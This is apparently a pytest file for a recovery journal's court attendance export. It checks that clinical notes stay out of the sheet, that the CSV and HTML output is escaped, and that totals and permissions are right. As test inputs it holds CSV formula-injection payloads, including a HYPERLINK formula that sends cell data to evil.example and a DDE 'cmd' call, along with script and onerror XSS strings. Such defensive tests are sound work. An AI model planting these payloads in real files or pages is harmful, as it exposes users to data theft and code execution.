"""The court attendance sheet (issue 4): attendance only, nothing clinical, safe CSV, a
self-contained HTML page, the default period, and totals per requirement period."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from html.parser import HTMLParser

import pytest

from recoverylog.render.court import MEETING_HEADERS, safe_cell

# The one CSV header style (render/csvout.py): snake_case, one table per file.
CSV_HEADERS = ("date", "start_time", "minutes", "meeting", "fellowship", "format", "location_or_online_id",
               "group_number", "verification", "verified_by", "reference")
TOTALS_HEADERS = ["requirement", "period", "period_start", "period_end", "counted", "required", "short_by", "met"]

FORMATS = ("csv", "markdown", "html", "json")
PRIVATE = ("ZEBRA-NOTE", "KIWI-GRATITUDE", "tagmango", "MEETING-PRIVATE-NOTE", "Kratom")
CLINICAL_WORDS = ("mood", "craving", "stress", "sleep", "halt", "substance", "sober", "gratitude", "\"note\":", "tags")


def court(cli, *args, fmt="csv"):
    result = cli("export", "--profile", "court", "--format", fmt, *args, ok=True)
    return result.stdout


def setup_history(cli):
    cli("substance", "add", "Kratom", ok=True)
    cli("checkin", "--date", "2026-11-18", "--mood", "3", "--craving", "9", "--stress", "8", "--sleep", "4",
        "--halt", "lonely", "--note", "ZEBRA-NOTE", "--gratitude", "KIWI-GRATITUDE", "--tag", "tagmango",
        "--used", "Kratom", ok=True)
    cli("meeting", "requirement", "add", "court", "--count", "2", "--per", "week", "--start", "2026-11-09",
        "--verified-only", ok=True)
    cli("meeting", "add", "Grace Group", "--date", "2026-11-10", "--time", "19:00", "--minutes", "60",
        "--fellowship", "AA", "--format", "in-person", "--location", "Grace Church", "--group-number", "4471",
        "--verification", "signature", "--verified-by", "John R.", "--ref", "SLIP-9",
        "--note", "MEETING-PRIVATE-NOTE", ok=True)
    cli("checkin", "--date", "2026-11-19", "--mood", "6", "--craving", "2", "--sober", "--meeting", "Grace Group",
        ok=True)
    cli("meeting", "add", "Online Dharma", "--date", "2026-11-20", "--fellowship", "recoverydharma",
        "--format", "online", "--online-id", "815 222 0000", "--verification", "email", ok=True)


def test_the_sheet_carries_nothing_clinical_in_any_format(cli):
    setup_history(cli)
    for fmt in FORMATS:
        text = court(cli, fmt=fmt)
        assert "Grace Group" in text and "Grace Church" in text and "John R." in text and "SLIP-9" in text
        for secret in PRIVATE:
            assert secret not in text, (fmt, secret)
        lowered = text.lower()
        for word in CLINICAL_WORDS:
            assert word not in lowered, (fmt, word)


def test_csv_rows_and_totals(cli):
    setup_history(cli)
    rows = list(csv.reader(io.StringIO(court(cli))))
    assert tuple(rows[0]) == CSV_HEADERS
    assert len({len(r) for r in rows}) == 1                     # every record the same width (RFC 4180)
    assert rows[1] == ["2026-11-10", "19:00", "60", "Grace Group", "AA", "in-person", "Grace Church", "4471",
                       "signature", "John R.", "SLIP-9"]
    assert rows[2][:5] == ["2026-11-19", "19:00", "60", "Grace Group", "AA"]  # logged with the check-in: usual details
    assert rows[3][3:7] == ["Online Dharma", "RecoveryDharma", "online", "ID 815 222 0000"]
    assert len(rows) == 4                                       # attendance rows only: no totals stacked below
    totals = list(csv.reader(io.StringIO(court(cli, "--table", "totals"))))
    assert totals == [TOTALS_HEADERS,
                      ["court", "2026-W46", "2026-11-09", "2026-11-15", "1", "2", "1", "no"],
                      ["court", "2026-W47", "2026-11-16", "2026-11-22", "1", "2", "1", "in progress (2 days left)"]]


def test_a_spreadsheet_sum_of_minutes_is_the_total(cli):
    setup_history(cli)
    cli("meeting", "add", "Noon Step", "--date", "2026-11-20", "--minutes", "45", ok=True)
    cli("meeting", "add", "No length given", "--date", "2026-11-20", ok=True)
    rows = list(csv.DictReader(io.StringIO(court(cli))))
    # What a spreadsheet does with SUM(C:C): every data row is a meeting, and blank cells count 0.
    column_sum = sum(int(r["minutes"]) for r in rows if r["minutes"])
    meetings = cli.json("meeting", "list", "--json")
    expected = sum(m["minutes"] or 0 for m in meetings)
    assert len(rows) == len(meetings) == 5 and column_sum == expected and expected >= 45
    assert all(len(r["date"]) == 10 and r["date"][4] == "-" for r in rows)


def test_table_option_is_for_the_court_csv_only(cli):
    setup_history(cli)
    for args in (["--profile", "court", "-f", "csv", "--table", "meetings"],
                 ["--profile", "court", "-f", "html", "--table", "totals"],
                 ["--profile", "sponsor", "--table", "totals"]):
        result = cli("export", *args)
        assert result.exit_code == 1 and "--table" in result.stderr and result.stdout == ""


@pytest.mark.parametrize("name, cell", [
    ('=HYPERLINK("http://evil.example/?q="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?q="&A1,"Click")'),
    ("+1+2", "'+1+2"), ("-3-4", "'-3-4"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTabbed", "Tabbed"),  # surrounding whitespace is trimmed when the name is saved
])
def test_csv_formula_injection_is_neutralised(cli, name, cell):
    cli("meeting", "add", "--date", "2026-11-20", "--location", "=cmd|' /C calc'!A0", "--", name, ok=True)
    rows = list(csv.reader(io.StringIO(court(cli))))
    assert rows[1][3] == cell
    assert rows[1][6] == "'=cmd|' /C calc'!A0"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("a=b") == "a=b" and safe_cell(None) == ""
    assert safe_cell(60) == "60" and safe_cell("\r x") == "'\r x"


def test_csv_quoting_round_trips(cli):
    cli("meeting", "add", 'St. Mark\'s, "Basement"', "--date", "2026-11-20", "--location", "Main St, Room 2", ok=True)
    rows = list(csv.reader(io.StringIO(court(cli))))
    assert rows[1][3] == 'St. Mark\'s, "Basement"' and rows[1][6] == "Main St, Room 2"


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_one_self_contained_escaped_page(cli):
    setup_history(cli)
    cli("meeting", "add", "<script>alert('x')</script> & <b>Group</b>", "--date", "2026-11-20",
        "--location", '"><img src=x onerror=alert(1)>', ok=True)
    page = court(cli, fmt="html")
    parser = _Collect()
    parser.feed(page)
    assert page.startswith("<!DOCTYPE html>") and parser.tags.count("html") == 1
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert "link" not in parser.tags and "iframe" not in parser.tags
    assert not [a for a in parser.attrs if a[0] in ("src", "href") or a[0].startswith("on")]
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &lt;b&gt;Group&lt;/b&gt;" in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert 'name="viewport"' in page and "@media print" in page and "<style>" in page
    text = "".join(parser.text)
    assert "Meeting attendance sheet" in text and "Requirement: court" in text and "2026-W47" in text
    assert "not a signed document" in text and "sha256:" in text


def test_markdown_escapes_table_breaking_text(cli):
    cli("meeting", "add", "Pipe | Group <b>", "--date", "2026-11-20", ok=True)
    md = court(cli, fmt="markdown")
    assert "Pipe \\| Group &lt;b&gt;" in md
    table = [line for line in md.splitlines() if line.startswith("| 2026-11-20")]
    assert len(table) == 1 and table[0].count(" | ") == len(MEETING_HEADERS) - 1


def test_default_period_runs_from_the_earliest_active_requirement(cli):
    cli("meeting", "add", "Early", "--date", "2026-09-01", ok=True)
    cli("meeting", "add", "Inside", "--date", "2026-10-20", ok=True)
    doc = json.loads(court(cli, fmt="json"))
    assert doc["period"]["start"] == "2026-09-01" and doc["period"]["end"] == "2026-11-21"  # first meeting
    cli("meeting", "requirement", "add", "old", "--count", "1", "--per", "week", "--start", "2026-01-05",
        "--end", "2026-03-01", ok=True)  # ended: not active
    cli("meeting", "requirement", "add", "court", "--count", "1", "--per", "month", "--start", "2026-10-15", ok=True)
    doc = json.loads(court(cli, fmt="json"))
    assert doc["period"] == {"start": "2026-10-15", "end": "2026-11-21", "days": 38}
    assert [r["name"] for r in doc["data"]["rows"]] == ["Inside"]
    assert doc["digest"].startswith("sha256:") and doc["profile"] == "court"
    assert [r["label"] for r in doc["data"]["requirements"]] == ["court"]
    rows = list(csv.reader(io.StringIO(court(cli, "--since", "2026-08-01", "--until", "2026-09-30"))))
    assert [r[3] for r in rows[1:]] == ["Early"]


def test_empty_sheet_and_bad_options(cli, empty_journal):
    rows = list(csv.reader(io.StringIO(court(cli))))
    assert rows == [list(CSV_HEADERS)]
    assert list(csv.reader(io.StringIO(court(cli, "--table", "totals")))) == [TOTALS_HEADERS]
    assert "No meetings were recorded" in court(cli, fmt="html")
    for args, code in ((["--format", "pdf"], 1), (["--until", "2026-12-01"], 1),
                       (["--since", "2026-11-20", "--until", "2026-11-10"], 1)):
        result = cli("export", "--profile", "court", *args)
        assert result.exit_code == code and "Error:" in result.stderr and result.stdout == ""


def test_output_file_is_private_and_logged(cli, tmp_path, db_path):
    setup_history(cli)
    target = tmp_path / "sheet.csv"
    result = cli("export", "--profile", "court", "--output", str(target), "--to", "probation officer", ok=True)
    assert "Wrote the court csv export for 2026-11-09 to 2026-11-21" in result.stderr
    assert os.stat(target).st_mode & 0o777 == 0o600
    raw = target.read_bytes()
    assert raw.startswith(b"date,start_time,") and raw.endswith(b"\r\n")   # RFC 4180 line ends
    assert raw.count(b"\r\n") == raw.count(b"\n")
    log = cli.json("export", "log", "--json")
    assert [(e["profile"], e["format"], e["period_start"], e["to"]) for e in log] == [
        ("court", "csv", "2026-11-09", "probation officer")]
    assert log[0]["digest"].startswith("sha256:")
    conn = sqlite3.connect(db_path)
    assert conn.execute("SELECT count(*) FROM exports").fetchone()[0] == 1
    conn.close()


def test_court_says_include_notes_changes_nothing(cli):
    cli("meeting", "add", "Tuesday Night", "--fellowship", "AA", "--date", "2026-11-17", ok=True)
    result = cli("export", "--profile", "court", "--include-notes", "--format", "csv", ok=True)
    assert "never notes" in result.stderr and "never notes" not in result.stdout
